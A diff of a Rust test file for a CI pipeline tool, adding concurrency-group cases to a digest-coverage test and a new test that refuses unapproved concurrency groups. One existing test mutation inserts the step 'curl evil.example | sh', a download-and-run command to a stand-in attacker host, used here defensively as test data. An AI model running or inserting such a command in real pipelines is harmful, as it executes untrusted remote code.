@@ -793,7 +793,7 @@ fn the_definition_digest_covers_what_runs_and_nothing_else() {
     moved.owner = Some("ops-eu".to_owned());
     assert_eq!(definition_digest(&body, &moved), digest);
 
-    let changes: [fn(&mut Stage); 10] = [
+    let changes: [fn(&mut Stage); 12] = [
         |s| s.steps.push(step("curl evil.example | sh")),
         // Row 10 of issue #12: a secret name added to the stage's environment.
         |s| s.secrets.push("PROD_DB_PASSWORD".to_owned()),
@@ -803,6 +803,20 @@ fn the_definition_digest_covers_what_runs_and_nothing_else() {
         |s| s.uses.push(used("k8s", 'b')),
         |s| s.notify.failure.push(step("echo failed")),
         |s| s.runtime.image = Some("alpine:3".to_owned()),
+        // A concurrency group: which of the owner's deploys the stage queues behind, or
+        // cancels (issue #14, item 4).
+        |s| {
+            s.concurrency = Some(otto_pipeline::plan::Concurrency {
+                group: "deploy-production".to_owned(),
+                cancel_in_progress: false,
+            })
+        },
+        |s| {
+            s.concurrency = Some(otto_pipeline::plan::Concurrency {
+                group: "deploy-production".to_owned(),
+                cancel_in_progress: true,
+            })
+        },
         |s| {
             s.gates.enter.push(otto_pipeline::plan::Gate::Poll {
                 command: Some("true".to_owned()),
@@ -1353,4 +1367,40 @@ fn a_hostile_repository_or_commit_is_refused_before_anything_is_fetched() {
         RejectCode::SourceRefused,
         "plan was made for commit \"9fceb02d0ae598e95dc970b74767f19372d61af8\"",
     );
+}
+
+/// Issue #14, item 4: a peer whose deploy steps the owner approved cannot put them in the
+/// owner's concurrency group (to queue behind, or with `cancel_in_progress` cancel, the
+/// owner's own deploys) without a new approval: the group is part of the definition.
+#[test]
+fn a_concurrency_group_the_owner_did_not_approve_is_refused() {
+    let approved = World::new();
+    let trust = approved.ops_trust();
+    check_with(&approved, &trust, &approved.offer(), NOW).unwrap();
+    for cancel_in_progress in [false, true] {
+        let mut world = World::new();
+        world
+            .plan
+            .body
+            .stages
+            .iter_mut()
+            .find(|s| s.id == "Deploy")
+            .unwrap()
+            .concurrency = Some(otto_pipeline::plan::Concurrency {
+            group: "deploy-production".to_owned(),
+            cancel_in_progress,
+        });
+        // Ops approved the steps without a group (the digest `approved` has).
+        let mut trust = world.ops_trust();
+        assert!(trust.unapprove(&world.deploy_digest()));
+        trust.approve(&approved.deploy_digest(), NOW);
+        rejected(
+            check_with(&world, &trust, &world.offer(), NOW),
+            RejectCode::DefinitionNotApproved,
+            &world.deploy_digest(),
+        );
+        // Approving the stage with its group lets it in.
+        trust.approve(&world.deploy_digest(), NOW);
+        check_with(&world, &trust, &world.offer(), NOW).unwrap();
+    }
 }
